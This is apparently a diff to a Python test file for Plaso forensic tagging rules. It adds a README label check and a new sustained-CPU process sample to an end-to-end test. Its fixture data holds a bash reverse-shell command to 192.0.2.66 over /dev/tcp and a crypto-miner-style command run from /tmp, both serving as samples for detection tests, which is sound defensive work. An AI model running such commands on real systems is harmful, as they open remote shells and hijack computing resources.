@@ -2,6 +2,7 @@
 """Tests for the tagging rules."""
 
 import os
+import re
 import tempfile
 import time
 import unittest
@@ -993,6 +994,19 @@ class CorpusTest(TaggingTestCase):
                     self.assertGreater(number_of_executions, 10)
 
 
+class DocumentationTest(TaggingTestCase):
+    """Tests of what the README says."""
+
+    def testLabels(self):
+        """Tests that the README names all labels."""
+        path = os.path.join(test_lib.PROJECT_PATH, "README.md")
+        with open(path, "r", encoding="utf-8") as file_object:
+            _, _, text = file_object.read().partition("\n## Tags\n")
+
+        labels = re.findall(r"^\| `(\w+)` \|", text.partition("\n## ")[0], re.MULTILINE)
+        self.assertEqual(labels, list(CASES))
+
+
 class MergeTest(TaggingTestCase):
     """Tests of the extensions of Plaso."""
 
@@ -1082,10 +1096,13 @@ class PsortTest(end_to_end.ToolsTestCase):
                     (b"sshd", b"/usr/sbin/sshd -D"),
                     (b"bash", b"bash -i >& /dev/tcp/192.0.2.66/443 0>&1"),
                     (b"kworker/0:0", b"/tmp/.x/a -o stratum+tcp://192.0.2.66:3333"),
+                    (b"a", b"./a"),
                 )
             )
         ]
         builder.AddSample(1795226000, tasks=tasks)
+        tasks[-1]["cpu.utime"] = 350000
+        builder.AddSample(1795229600, interval=3600, tasks=tasks)
         source = cls._GetPath("source")
         os.makedirs(source)
         with open(os.path.join(source, "atop_20261121"), "wb") as file_object:
@@ -1129,6 +1146,7 @@ class PsortTest(end_to_end.ToolsTestCase):
             "kernel_thread_masquerading",
             "temporary_directory_execution",
         },
+        "./a": {"application_execution", "sustained_cpu_usage"},
     }
 
     def testTagAtop(self):
